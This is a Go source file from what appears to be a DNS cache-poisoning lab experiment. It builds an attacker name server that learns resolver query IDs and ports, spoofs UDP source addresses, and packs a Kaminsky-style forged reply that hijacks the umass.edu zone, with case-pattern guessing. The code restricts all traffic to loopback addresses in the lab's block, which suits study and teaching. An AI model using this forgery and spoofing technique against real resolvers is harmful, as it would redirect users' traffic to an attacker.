package dnsexp

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"sync/atomic"

	"github.com/miekg/dns"
	"golang.org/x/net/ipv4"
)

// attacker is the dns-poisoning experiment's attacker host: a name server
// for its own zone (evil.edu, delegated to it by the edu server: the
// queries it receives tell it the resolver's IDs and source port, as they
// told real attackers), which also answers for umass.edu once a resolver's
// cache sends it there, and a sender of forged replies whose source
// address is another lab host's. One UDP socket does both: bound to the
// lab's DNS port on the attacker's own address, it sends with any source
// address of 127.0.0.0/8 through IP_PKTINFO (every loopback address is
// local, so no privilege is needed on Linux). It sends only to addresses
// of the lab's block.
type attacker struct {
	block netip.Prefix // the lab's: every destination and spoofed source
	addr  netip.Addr
	conn  net.PacketConn
	pc    *ipv4.PacketConn
	zones []string // answered with addr: its own and the hijacked one

	lastID   atomic.Uint32 // of the last query the resolver sent it
	lastPort atomic.Uint32 // its source port
	spoofed  atomic.Int64
	done     chan struct{}
}

// startAttacker binds the attacker's socket on addr:port and serves its
// zones until close.
func startAttacker(block netip.Prefix, addr netip.Addr, port int, zones ...string) (*attacker, error) {
	if !block.Contains(addr) || !addr.IsLoopback() {
		return nil, fmt.Errorf("dns-poisoning: attacker address %s is not a loopback address of the lab's block %s", addr, block)
	}
	conn, err := net.ListenPacket("udp4", netip.AddrPortFrom(addr, uint16(port)).String())
	if err != nil {
		return nil, fmt.Errorf("dns-poisoning: attacker: %w", err)
	}
	a := &attacker{block: block, addr: addr, conn: conn, pc: ipv4.NewPacketConn(conn), zones: zones, done: make(chan struct{})}
	go a.serve()
	return a, nil
}

func (a *attacker) close() {
	a.conn.Close()
	<-a.done
}

// inLab refuses any destination (or spoofed source) outside the lab.
func (a *attacker) inLab(ap netip.Addr) error {
	if ap = ap.Unmap(); !ap.IsLoopback() || !a.block.Contains(ap) {
		return fmt.Errorf("dns-poisoning: attacker: %s is not in the lab's block %s: not sent", ap, a.block)
	}
	return nil
}

// serve answers every query for its zones with its own address,
// authoritatively, remembering the ID and source port of each.
func (a *attacker) serve() {
	defer close(a.done)
	buf := make([]byte, 4096)
	for {
		n, from, err := a.conn.ReadFrom(buf)
		if err != nil {
			return
		}
		q := new(dns.Msg)
		if q.Unpack(buf[:n]) != nil || q.Response || len(q.Question) != 1 {
			continue
		}
		src := from.(*net.UDPAddr).AddrPort()
		if a.inLab(src.Addr()) != nil {
			continue
		}
		a.lastID.Store(uint32(q.Id))
		a.lastPort.Store(uint32(src.Port()))
		r := new(dns.Msg)
		r.SetReply(q)
		qn := q.Question[0].Name
		if a.serves(qn) {
			r.Authoritative = true
			if q.Question[0].Qtype == dns.TypeA {
				r.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: qn, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 300}, A: a.addr.AsSlice()}}
			}
		} else {
			r.Rcode = dns.RcodeRefused
		}
		if b, err := r.Pack(); err == nil {
			a.conn.WriteTo(b, from)
		}
	}
}

func (a *attacker) serves(name string) bool {
	for _, z := range a.zones {
		if dns.IsSubDomain(z, strings.ToLower(name)) {
			return true
		}
	}
	return false
}

// spoof sends b to dst as if it came from src (on the attacker's port).
func (a *attacker) spoof(b []byte, src netip.Addr, dst netip.AddrPort) error {
	if err := errors.Join(a.inLab(src), a.inLab(dst.Addr())); err != nil {
		return err
	}
	if _, err := a.pc.WriteTo(b, &ipv4.ControlMessage{Src: src.AsSlice()}, net.UDPAddrFromAddrPort(dst)); err != nil {
		return fmt.Errorf("dns-poisoning: sending from a spoofed source address (IP_PKTINFO, Linux only): %w", err)
	}
	a.spoofed.Add(1)
	return nil
}

// forgery is the forged reply of one race, packed once: Kaminsky's reply
// for a random name of umass.edu. Its answer gives the name the attacker's
// address, its authority section says umass.edu's server is
// dns.umass.edu and its additional section that dns.umass.edu is at the
// attacker's address: a resolver that believes it sends all of umass.edu
// to the attacker. Each guess patches the ID and the question's case.
type forgery struct {
	b       []byte
	letters []int // offsets of the question name's letters in b
}

func newForgery(name string, attacker netip.Addr) (*forgery, error) {
	m := new(dns.Msg)
	m.SetQuestion(name, dns.TypeA)
	m.Response, m.Authoritative, m.RecursionDesired = true, true, false
	ip := attacker.AsSlice()
	m.Answer = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 3600}, A: ip}}
	m.Ns = []dns.RR{&dns.NS{Hdr: dns.RR_Header{Name: "umass.edu.", Rrtype: dns.TypeNS, Class: dns.ClassINET, Ttl: 86400}, Ns: "dns.umass.edu."}}
	m.Extra = []dns.RR{&dns.A{Hdr: dns.RR_Header{Name: "dns.umass.edu.", Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 86400}, A: ip}}
	m.Compress = true
	b, err := m.Pack()
	if err != nil {
		return nil, err
	}
	f := &forgery{b: b}
	for i := 12; i < len(b) && b[i] != 0; i += int(b[i]) + 1 {
		for j := i + 1; j <= i+int(b[i]); j++ {
			if c := b[j] | 0x20; 'a' <= c && c <= 'z' {
				f.letters = append(f.letters, j)
			}
		}
	}
	return f, nil
}

// guess sets the reply's ID and the case of the question's letters (bit i
// of pattern set: letter i upper case), as the resolver's 0x20 would.
func (f *forgery) guess(id uint16, pattern uint64) []byte {
	f.b[0], f.b[1] = byte(id>>8), byte(id)
	for i, o := range f.letters {
		if pattern&(1<<i) != 0 {
			f.b[o] &^= 0x20
		} else {
			f.b[o] |= 0x20
		}
	}
	return f.b
}

// context-free helper for the experiment: the attacker asks the resolver.
func askResolver(ctx context.Context, resolver netip.AddrPort, name string) (*dns.Msg, error) {
	m := new(dns.Msg)
	m.SetQuestion(name, dns.TypeA)
	m.RecursionDesired = true
	c := &dns.Client{Net: "udp", Timeout: resolveWait}
	r, _, err := c.ExchangeContext(ctx, m, resolver.String())
	return r, err
}
